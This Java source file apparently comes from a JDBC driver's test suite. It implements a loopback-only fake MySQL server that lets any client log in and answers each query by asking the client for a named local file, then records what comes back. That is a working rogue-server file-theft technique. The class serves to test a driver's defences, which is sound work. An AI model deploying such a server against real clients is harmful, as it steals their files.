package dev.loadstone.databases.jdbc;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A server of MySQL's protocol that lets everybody in and answers each statement by asking for a
 * file of the client's, as a server that somebody has taken over would.
 */
final class FileAskingServer implements AutoCloseable {
  /** With passwords, databases, files of the client and MySQL's present protocol. */
  private static final int CAPABILITIES =
      0x1 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x10000 | 0x20000 | 0x80000;

  private static final byte[] OK = {0, 0, 0, 2, 0, 0, 0};
  private static final int QUIT = 1;
  private static final int QUERY = 3;

  private final ServerSocket socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
  private final String file;
  private final AtomicInteger asked = new AtomicInteger();
  private final ByteArrayOutputStream received = new ByteArrayOutputStream();

  FileAskingServer(String file) throws IOException {
    this.file = file;
    Thread thread = new Thread(this::serve, "file-asking-server");
    thread.setDaemon(true);
    thread.start();
  }

  String endpoint() {
    return "127.0.0.1:" + socket.getLocalPort();
  }

  /** The number of times that it has asked. */
  int asked() {
    return asked.get();
  }

  /** The next messages of clients. */
  String received() {
    synchronized (received) {
      return received.toString(ISO_8859_1);
    }
  }

  private void serve() {
    while (!socket.isClosed()) {
      try (Socket client = socket.accept()) {
        talk(new DataInputStream(client.getInputStream()), client.getOutputStream());
      } catch (IOException e) {
        // The client hung up, or this server was closed.
      }
    }
  }

  private void talk(DataInputStream in, OutputStream out) throws IOException {
    write(out, 0, greeting());
    read(in);
    write(out, 2, OK);
    while (true) {
      byte[] command = read(in);
      if (command[0] == QUIT) {
        return;
      }
      if (command[0] != QUERY) {
        write(out, 1, OK);
        continue;
      }
      asked.incrementAndGet();
      write(out, 1, ("\u00fb" + file).getBytes(ISO_8859_1));
      // The first packet is the file, or what a client says next that gave none.
      synchronized (received) {
        received.write(read(in));
      }
      return;
    }
  }

  private static byte[] greeting() throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.write(10);
    bytes.write("8.0.36\0".getBytes(ISO_8859_1));
    bytes.write(new byte[] {1, 0, 0, 0});
    bytes.write("12345678\0".getBytes(ISO_8859_1));
    bytes.write(new byte[] {(byte) CAPABILITIES, (byte) (CAPABILITIES >> 8)});
    bytes.write(new byte[] {45, 2, 0});
    bytes.write(new byte[] {(byte) (CAPABILITIES >> 16), (byte) (CAPABILITIES >> 24)});
    bytes.write(21);
    bytes.write(new byte[10]);
    bytes.write("123456789012\0".getBytes(ISO_8859_1));
    bytes.write("caching_sha2_password\0".getBytes(ISO_8859_1));
    return bytes.toByteArray();
  }

  private static byte[] read(DataInputStream in) throws IOException {
    int length = in.readUnsignedByte() | in.readUnsignedByte() << 8 | in.readUnsignedByte() << 16;
    in.readUnsignedByte();
    return in.readNBytes(length);
  }

  private static void write(OutputStream out, int sequence, byte[] payload) throws IOException {
    out.write(payload.length);
    out.write(payload.length >> 8);
    out.write(payload.length >> 16);
    out.write(sequence);
    out.write(payload);
    out.flush();
  }

  @Override
  public void close() {
    try {
      socket.close();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
